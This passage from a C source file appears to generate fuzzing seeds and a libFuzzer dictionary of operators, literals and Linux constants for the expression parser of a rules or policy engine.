	if (read_all(path, &buf, &len) < 0) {
		failures++;
		return;
	}
	for (char *p = buf; p && p < buf + len;) {
		char *start = memmem(p, (size_t)(buf + len - p), "```yaml\n", 8), *end;

		if (!start)
			break;
		start += 8;
		end = memmem(start, (size_t)(buf + len - start), "```", 3);
		if (!end)
			break;
		snprintf(name, sizeof(name), "rules-md-%d", block++);
		write_seed("policy", name, start, (size_t)(end - start));
		p = end + 3;
	}
	free(buf);
}

/* ---- The dictionary ---- */

static void dict_word(FILE *f, const char *w)
{
	fputc('"', f);
	for (; *w; w++) {
		if (*w == '"' || *w == '\\')
			fprintf(f, "\\%c", *w);
		else
			fputc(*w, f);
	}
	fputs("\"\n", f);
}

static void gen_dict(void)
{
	static const char *const words[] = {
		"==", "!=", "<", "<=", ">", ">=", "=~", "!~", "&&", "||", "!",
		" and ", " or ", " not ", " in ", " not in ", "&", "|", "^", "(", ")",
		"[", "]", ",", "~\"", "r\"", "\"", "'", "\\x", "\\\"", "*", "**",
		"?", "[!", "true", "false", "500ms", "5s", "2m", "1h", "10ns",
		"3us", "0x1ff", "0755", "-1", "9223372036854775807",
		"10.0.0.0/8", "::ffff:10.1.2.3", "\"fe80::/10\"", "O_CREAT",
		"O_RDWR", "O_ACCMODE", "S_ISUID", "SIGKILL", "CAP_SYS_ADMIN",
		"PTRACE_ATTACH", "AF_INET6", "SOCK_STREAM", "BPF_PROG_LOAD",
		"PR_SET_NAME", "MS_BIND", "fz_list", "fz_names", "fz_open",
		"event.type",
	};
	char path[4096];
	FILE *f;

	snprintf(path, sizeof(path), "%s/expr.dict", fuzz_dir);
	f = fopen(path, "w");
	if (!f) {
		fprintf(stderr, "%s: %s\n", path, strerror(errno));
		failures++;
		return;
	}
	fputs("# libFuzzer dictionary for fuzz-expr, written by fuzz-gen-seeds.\n", f);
	for (size_t i = 0; i < sizeof(words) / sizeof(words[0]); i++)
		dict_word(f, words[i]);
	for (int t = 0; t < RULES_EV__COUNT; t++)
		dict_word(f, rules_event_type_name(t));
	for (size_t i = 0; i < rules_field_count(); i++)
		dict_word(f, rules_field_at(i)->name);
	if (fclose(f) != 0)
		failures++;
}

int main(int argc, char **argv)
{
	if (argc != 4) {
		fprintf(stderr, "usage: %s DATADIR FUZZDIR SOURCEROOT\n", argv[0]);
		return 2;
	}
	data_dir = argv[1];
	fuzz_dir = argv[2];
	src_root = argv[3];
	gen_messages();
	gen_frames();
	gen_conversations();
	gen_expressions();
	gen_policies();
	gen_dict();
	for (size_t i = 0; i < nmsgs; i++)
		msgpack_sbuffer_destroy(&msgs[i].sb);
	return failures ? 1 : 0;
}
